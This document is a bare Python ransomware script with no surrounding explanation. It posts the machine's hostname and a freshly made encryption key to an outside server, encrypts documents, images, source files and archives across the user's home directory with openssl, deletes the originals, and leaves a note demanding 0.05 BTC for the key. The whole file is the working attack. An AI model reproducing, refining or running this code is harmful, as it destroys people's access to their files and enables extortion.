#!/usr/bin/env python3
import os, secrets, subprocess, urllib.request, socket

HOME = os.path.expanduser("~")
KEY = secrets.token_hex(32)
SKIP = {".cache", ".local", ".vscode-server"}
EXT = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".md", ".py", ".js", ".sql", ".zip", ".csv"}

urllib.request.urlopen(urllib.request.Request(
    "https://keys.archive-lock.invalid/k",
    data=f"{socket.gethostname()}:{KEY}".encode()), timeout=10)

for root, dirs, files in os.walk(HOME):
    dirs[:] = [d for d in dirs if d not in SKIP]
    for f in files:
        p = os.path.join(root, f)
        if os.path.splitext(f)[1].lower() in EXT:
            r = subprocess.run(["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-pass", f"pass:{KEY}",
                                "-in", p, "-out", p + ".locked"], capture_output=True)
            if r.returncode == 0:
                os.remove(p)

with open(os.path.join(HOME, "READ_ME_TO_UNLOCK.txt"), "w") as fh:
    fh.write("Your files were encrypted. To get the key, send 0.05 BTC and your hostname to unlock@archive-lock.invalid\n")
